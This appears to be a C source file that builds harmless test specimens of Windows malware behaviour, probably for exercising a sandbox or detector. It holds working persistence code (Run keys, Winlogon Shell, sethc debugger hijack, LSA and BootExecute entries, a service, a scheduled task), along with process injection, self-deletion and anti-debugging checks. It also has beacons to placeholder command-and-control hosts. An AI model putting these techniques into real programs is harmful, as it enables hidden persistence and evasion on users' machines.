/*
 * Inert specimens of what Windows programs do to stay, hide and call home: the name of the file says which acts ("dns+http.exe"). Nothing is done
 * where Z:\.muss-scratch is missing, and what is done stays in the garden's own drive and registry. Built by build.sh.
 */
#include "windows.h"

#define HKCU ((handle)(word)0x80000001u)
#define HKLM ((handle)(word)0x80000002u)
#define CURRENT "Software\\Microsoft\\Windows\\CurrentVersion\\"
#define NT "Software\\Microsoft\\Windows NT\\CurrentVersion\\"
#define PATH "C:\\users\\Public\\update.exe"
#define STARTUP "AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"

static char self[260];

/* Compilers call them for what the source does not. */
void *memcpy(void *to, const void *from, word n)
{
	for (word i = 0; i < n; i++)
		((volatile char *)to)[i] = ((const char *)from)[i];
	return to;
}

void *memset(void *to, int c, word n)
{
	for (word i = 0; i < n; i++)
		((volatile char *)to)[i] = (char)c;
	return to;
}

static dword length(const char *s)
{
	dword n = 0;

	while (s[n])
		n++;
	return n;
}

/* Is this the next word of the file's name? */
static int next(const char *at, const char *word)
{
	while (*word && *at == *word)
		at++, word++;
	return !*word && (*at == '+' || *at == '.');
}

static void set(handle root, const char *key, const char *value, dword type, const char *data, dword n)
{
	handle k;

	if (RegCreateKeyExA(root, key, 0, 0, 0, 0xf003f, 0, &k, 0))
		return;
	RegSetValueExA(k, value, 0, type, data, n);
	RegCloseKey(k);
}

static void set_text(handle root, const char *key, const char *value, const char *data)
{
	set(root, key, value, 1, data, length(data) + 1);
}

static void write(const char *path, const char *text)
{
	handle f = CreateFileA(path, 0x40000000, 0, 0, 2, 0x80, 0);
	dword n;

	WriteFile(f, text, length(text), &n, 0);
	CloseHandle(f);
}

static handle start(const char *command, dword flags)
{
	static char line[600], startup[104];
	static handle process[3];
	dword i;

	for (i = 0; command[i]; i++)
		line[i] = command[i];
	line[i] = 0;
	*(dword *)startup = sizeof startup;
	return CreateProcessA(0, line, 0, 0, 0, flags, 0, 0, startup, process) ? process[0] : 0;
}

static void run_key(void) { set_text(HKCU, CURRENT "Run", "Updater", PATH " -q"); }
static void run_machine(void) { set_text(HKLM, CURRENT "Run", "Updater", PATH); }
static void run_once(void) { set_text(HKCU, CURRENT "RunOnce", "Once", PATH); }
static void winlogon(void) { set_text(HKLM, NT "Winlogon", "Shell", "explorer.exe, " PATH); }
static void image_options(void) { set_text(HKLM, NT "Image File Execution Options\\sethc.exe", "Debugger", PATH); }
static void appinit(void) { set_text(HKLM, NT "Windows", "AppInit_DLLs", "C:\\users\\Public\\hook.dll"); }
static void active_setup(void) { set_text(HKLM, "Software\\Microsoft\\Active Setup\\Installed Components\\{muss}", "StubPath", PATH); }
static void com(void) { set_text(HKCU, "Software\\Classes\\CLSID\\{00000000-1111-2222-3333-444444444444}\\InprocServer32", "", "C:\\x.dll"); }
static void screensaver(void) { set_text(HKCU, "Control Panel\\Desktop", "SCRNSAVE.EXE", PATH); }
static void helper(void) { set_text(HKLM, CURRENT "Explorer\\Browser Helper Objects\\{muss-helper}", "", "helper"); }
static void monitor(void) { set_text(HKLM, "System\\CurrentControlSet\\Control\\Print\\Monitors\\Muss", "Driver", "muss.dll"); }
static void netsh(void) { set_text(HKLM, "Software\\Microsoft\\NetSh", "muss", "C:\\muss.dll"); }
static void office(void) { set_text(HKCU, "Software\\Microsoft\\Office\\Word\\Addins\\Muss", "LoadBehavior", "3"); }
static void lsa(void) { set(HKLM, "System\\CurrentControlSet\\Control\\Lsa", "Notification Packages", 7, "scecli\0muss\0", 13); }
static void boot_execute(void) { set(HKLM, "System\\CurrentControlSet\\Control\\Session Manager", "BootExecute", 7, "autocheck\0muss\0", 16); }

static void service(void)
{
	handle m = OpenSCManagerA(0, 0, 0xf003f);
	handle s = CreateServiceA(m, "MussSvc", "Muss Service", 0xf01ff, 0x10, 2, 0, PATH " -s", 0, 0, 0, 0, 0);

	CloseServiceHandle(s);
	CloseServiceHandle(m);
}

static void startup(void) { CopyFileA(self, "C:\\users\\john\\" STARTUP "helper.exe", 0); }

static void task(void)
{
	CreateDirectoryA("C:\\windows\\system32\\Tasks", 0);
	write("C:\\windows\\system32\\Tasks\\Muss", "<Task><Exec><Command>" PATH "</Command></Exec></Task>");
}

static void dropper(void) { write("C:\\ProgramData\\muss.dat", "dropped by a specimen\n"); }
static void copier(void) { CopyFileA(self, PATH, 0); }

static void self_delete(void)
{
	char line[400] = "cmd.exe /c ping -n 1 127.0.0.1 >nul & del \"";
	dword n = length(line);

	for (dword i = 0; self[i]; i++)
		line[n++] = self[i];
	line[n++] = '"';
	line[n] = 0;
	start(line, 0);
}

static void process(void) { WaitForSingleObject(start("cmd.exe /c echo muss", 0), 5000); }

/* Into a child of its own: a piece of code that returns. */
static void inject(void)
{
	static const unsigned char code[] = { 0x31, 0xc0, 0xc3 };
	handle child = start("winver.exe", 4), thread;
	void *at = VirtualAllocEx(child, 0, 4096, 0x3000, 0x40);
	word n;

	WriteProcessMemory(child, at, code, sizeof code, &n);
	thread = CreateRemoteThread(child, 0, 0, at, 0, 0, 0);
	WaitForSingleObject(thread, 3000);
	TerminateProcess(child, 0);
}

static void mutex(void) { CreateMutexA(0, 1, "Global\\MussMutex"); }

static void http(void)
{
	handle i = InternetOpenA("muss/1.0", 1, 0, 0, 0);

	InternetOpenUrlA(i, "http://192.0.2.7/gate.php?id=1", 0, 0, 0x84000000u, 0);
}

static void sockets(void)
{
	static const unsigned char to[16] = { 2, 0, 0x1a, 0x0b, 192, 0, 2, 9 };
	char data[512];
	word s;

	WSAStartup(0x202, data);
	s = socket(2, 1, 6);
	connect(s, to, sizeof to);
	send(s, "NICK muss\r\n", 11, 0);
}

static void dns(void)
{
	char data[512];

	WSAStartup(0x202, data);
	gethostbyname("c2.muss.example");
}

static void long_sleep(void)
{
	Sleep(3600 * 1000);
	write("C:\\ProgramData\\slept.dat", "after an hour\n");
}

static void debugger(void)
{
	if (IsDebuggerPresent())
		ExitProcess(3);
	mutex();
}

static void clock(void)
{
	dword began = GetTickCount();

	for (int i = 0; i < 200; i++)
		if (GetTickCount() - began > 500)
			ExitProcess(3);
}

static void enumerate(void)
{
	char key[256];
	handle k;

	if (!RegOpenKeyExA(HKLM, CURRENT "Uninstall", 0, 0x20019, &k))
		for (dword i = 0; i < 20 && !RegEnumKeyA(k, i, key, sizeof key); i++)
			;
}

static void memory_code(void)
{
	static const unsigned char code[] = { 0x48, 0xb8, 'm', 'u', 's', 's', '-', 'm', 'e', 'm', 0x31, 0xc0, 0xc3 };
	unsigned char *p = VirtualAlloc(0, 4096, 0x3000, 0x40);

	for (dword i = 0; i < sizeof code; i++)
		p[i] = code[i];
	((int (*)(void))(word)p)();
}

/* Leaves a trace only where it finds Wine. */
static void watch_wine(void)
{
	if (GetProcAddress(GetModuleHandleA("ntdll.dll"), "wine_get_version"))
		write("C:\\ProgramData\\wine.dat", "wine\n");
}

static void inert(void) { }

static const struct { const char *name; void (*act)(void); } acts[] = {
	{ "run-key", run_key }, { "run-machine", run_machine }, { "run-once", run_once }, { "winlogon", winlogon }, { "image-options", image_options },
	{ "appinit", appinit }, { "active-setup", active_setup }, { "com", com }, { "screensaver", screensaver }, { "browser-helper", helper },
	{ "print-monitor", monitor }, { "netsh", netsh }, { "office", office }, { "lsa", lsa }, { "boot-execute", boot_execute },
	{ "service", service }, { "startup-folder", startup }, { "task", task }, { "dropper", dropper }, { "copier", copier },
	{ "self-delete", self_delete }, { "process", process }, { "inject", inject }, { "mutex", mutex }, { "http", http }, { "sockets", sockets },
	{ "dns", dns }, { "long-sleep", long_sleep }, { "debugger", debugger }, { "clock", clock }, { "enumerate", enumerate },
	{ "memory-code", memory_code }, { "watch-wine", watch_wine }, { "inert", inert },
};

#ifdef SEVERAL
/* For the emulator, whose machine has no Z: and calls every program by a name of its own. */
static int in_emulator(void)
{
	static const char path[] = "C:\\Users\\Anna\\Downloads\\setup.exe";
	char computer[32] = "";
	dword n = sizeof computer, i;

	for (i = 0; path[i] && path[i] == self[i]; i++)
		;
	return !path[i] && GetComputerNameA(computer, &n) && computer[0] == 'A' && computer[4] == '-';
}

static void several(void)
{
	run_key();
	service();
	dropper();
	process();
	http();
}
#endif

void begin(void)
{
	dword from = GetModuleFileNameA(0, self, sizeof self);

#ifdef SEVERAL
	if (in_emulator())
		several();
#endif
	if (GetFileAttributesA("Z:\\.muss-scratch") == 0xffffffffu)
		ExitProcess(2);
	while (from && self[from - 1] != '\\')
		from--;
	for (; self[from] && self[from] != '.'; from++)
		for (dword i = 0; i < sizeof acts / sizeof *acts && (self[from - 1] == '\\' || self[from - 1] == '+'); i++)
			if (next(self + from, acts[i].name))
				acts[i].act();
	ExitProcess(0);
}
